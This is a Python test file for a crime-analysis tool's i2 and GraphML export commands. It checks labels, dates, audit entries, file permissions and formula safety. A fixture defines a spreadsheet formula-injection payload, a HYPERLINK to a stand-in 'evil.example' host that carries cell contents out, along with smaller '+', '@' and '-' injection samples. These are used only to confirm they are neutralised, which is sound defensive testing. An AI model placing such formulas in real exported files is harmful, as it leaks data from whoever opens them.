"""The graph for analysts' own tools (issue 14): ``adapt export i2`` (the i2
Analyst's Notebook link table, CSV or XLSX) and ``adapt export graphml`` (for
Gephi and networkx), with names as labels and dates as attributes, formula-safe
and audited before the file is written, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import stat
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import openpyxl
import pytest
from typer.testing import CliRunner

from adapt.cli import app
from adapt.db import connect
from adapt.db.app_store import audit_frame
from adapt.graph.exports import graphml_bytes
from adapt.graph.i2 import I2_COLUMNS
from tests.extracts import incident, involvement, write_extract

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GRAPHML = "{http://graphml.graphdrawing.org/xmlns}"


def _run(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, list(args))


@pytest.fixture(scope="module")
def loaded(module_db_url: str, tmp_path_factory: pytest.TempPathFactory) -> str:
    """One suspect (named with a formula) against five victims, Feb to Jun 2024."""
    numbers = range(1, 6)
    invs = []
    for n in numbers:
        invs.append(involvement(n, "suspect", 1, forename=EVIL, surname="Grey"))
        invs.append(involvement(n, "victim", 100 + n, forename="Ann", surname=f"Lee{n}"))
    folder = write_extract(
        tmp_path_factory.mktemp("extract") / "x", [incident(n) for n in numbers], invs
    )
    for step in (("load", str(folder)), ("resolve",)):
        result = _run(*step, "--db", module_db_url)
        assert result.exit_code == 0, result.output
    return module_db_url


def _latest_audit(url: str):  # type: ignore[no-untyped-def]
    engine = connect(url)
    try:
        return audit_frame(engine).iloc[0]
    finally:
        engine.dispose()


def _export(url: str, kind: str, out: Path, *extra: str) -> None:
    result = _run("export", kind, "--out", str(out), "--purpose", "network analysis",
                  "--db", url, *extra)  # fmt: skip
    assert result.exit_code == 0, result.output
    entry = _latest_audit(url)
    assert entry["action"] == "export" and entry["detail"].startswith(f"{kind}: ")
    assert str(out.resolve()) in entry["detail"] and entry["detail"].endswith("network analysis")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_the_i2_link_table_as_csv_has_names_as_labels_and_is_formula_safe(
    loaded: str, tmp_path: Path
) -> None:
    out = tmp_path / "i2.csv"
    _export(loaded, "i2", out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(I2_COLUMNS)
    against = [r for r in rows if r["link_type"] == "Suspect against"]
    assert len(against) == 5
    # the name, quoted so that a spreadsheet shows it instead of running it
    assert {r["end1_label"] for r in against} == {"'" + EVIL + " Grey"}
    assert {r["end2_label"] for r in against} == {f"Ann Lee{n}" for n in range(1, 6)}
    assert sorted(r["first_date"][:10] for r in against)[0] == "2024-02-02"
    assert {r["link_label"] for r in against} == {"1 incident"}
    assert {r["end2_type"] for r in rows} == {"Person", "Address"}


def test_the_i2_link_table_as_xlsx_keeps_the_name_as_text(loaded: str, tmp_path: Path) -> None:
    out = tmp_path / "i2.xlsx"
    _export(loaded, "i2", out, "--as-of", "2024-03-31")
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header == list(I2_COLUMNS)
    label = header.index("end1_label") + 1
    cells = [row[label - 1] for row in sheet.iter_rows(min_row=2)]
    evil = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert evil and all(c.data_type == "s" for c in evil)  # a string cell, never a formula
    first = header.index("first_date")
    dates = [row[first] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert dates and max(dates).date().isoformat() <= "2024-03-31"


def test_graphml_opens_in_networkx_with_names_roles_and_dates(loaded: str, tmp_path: Path) -> None:
    out = tmp_path / "graph.graphml"
    _export(loaded, "graphml", out)
    graph = nx.read_graphml(out)
    assert graph.is_directed()
    people = {n: a for n, a in graph.nodes(data=True) if a["kind"] == "person"}
    places = {n: a for n, a in graph.nodes(data=True) if a["kind"] == "address"}
    assert len(people) == 6 and places
    suspect = [a for a in people.values() if a["role"] == "suspect"]
    assert len(suspect) == 1
    assert suspect[0]["name"] == "'" + EVIL + " Grey" == suspect[0]["label"]
    assert {a["name"] for a in people.values() if a["role"] == "victim"} == {
        f"Ann Lee{n}" for n in range(1, 6)
    }
    assert all(set(a) == {"kind", "label", "postcode"} for a in places.values())
    assert all(a["label"].endswith("LE1 2AB") or a["label"].endswith("LE2 3CD")
               for a in places.values())  # fmt: skip
    against = [d for _, _, d in graph.edges(data=True) if d["relation"] == "suspect_against"]
    assert len(against) == 5
    assert {d["label"] for d in against} == {"Suspect against"}
    assert all(d["incidents"] == 1 and isinstance(d["incidents"], int) for d in against)
    assert sorted(d["first_at"] for d in against)[0] == "2024-02-02"
    assert all(len(d["last_at"]) == 10 for _, _, d in graph.edges(data=True))

    # Valid GraphML for Gephi: declared, typed keys, and every value under a declared key.
    root = ET.parse(out).getroot()
    assert root.tag == f"{GRAPHML}graphml"
    keys = {k.get("id"): k for k in root.iter(f"{GRAPHML}key")}
    types = {(k.get("for"), k.get("attr.name")): k.get("attr.type") for k in keys.values()}
    assert types[("edge", "incidents")] in ("int", "long")
    assert types[("node", "name")] == types[("edge", "first_at")] == "string"
    assert {d.get("key") for d in root.iter(f"{GRAPHML}data")} <= set(keys)
    ids = [e.get("id") for e in root.iter(f"{GRAPHML}edge")]
    assert len(ids) == len(set(ids)) == graph.number_of_edges()  # Gephi drops a repeated id
    assert ids[0].count(":") == 2  # source:relation:target, as the i2 link id
    assert out.read_bytes().startswith(b"<?xml version='1.0' encoding='utf-8'?>")


def test_graphml_as_of_a_date_leaves_out_later_incidents(loaded: str, tmp_path: Path) -> None:
    out = tmp_path / "march.graphml"
    _export(loaded, "graphml", out, "--as-of", "2024-03-31")
    graph = nx.read_graphml(out)
    assert graph.graph["as_of"] == "2024-03-31"
    against = [d for _, _, d in graph.edges(data=True) if d["relation"] == "suspect_against"]
    assert len(against) == 2  # incidents of 2 Feb and 3 Mar
    assert max(d["last_at"] for _, _, d in graph.edges(data=True)) <= "2024-03-31"


def test_a_graphml_export_needs_its_suffix_and_a_purpose(loaded: str, tmp_path: Path) -> None:
    wrong = _run("export", "graphml", "--out", str(tmp_path / "g.csv"), "--purpose", "x",
                 "--db", loaded)  # fmt: skip
    assert wrong.exit_code != 0 and not (tmp_path / "g.csv").exists()
    bare = _run("export", "graphml", "--out", str(tmp_path / "g.graphml"), "--db", loaded)
    assert bare.exit_code != 0 and not (tmp_path / "g.graphml").exists()


def test_graphml_bytes_makes_any_graph_formula_safe_without_changing_it() -> None:
    graph = nx.DiGraph(title="+cmd")
    graph.add_node("a", name="@SUM(1+1)", age=3, note=None)
    graph.add_node("b", name="Plain")
    graph.add_edge("a", "b", why="-2+3", weight=1.5)
    back = nx.read_graphml(io.BytesIO(graphml_bytes(graph)))
    assert back.nodes["a"] == {"name": "'@SUM(1+1)", "age": 3}
    assert back.nodes["b"] == {"name": "Plain"}
    assert back.edges["a", "b"] == {"why": "'-2+3", "weight": 1.5}
    assert back.graph["title"] == "'+cmd"
    assert graph.nodes["a"]["name"] == "@SUM(1+1)"  # the caller's graph is untouched
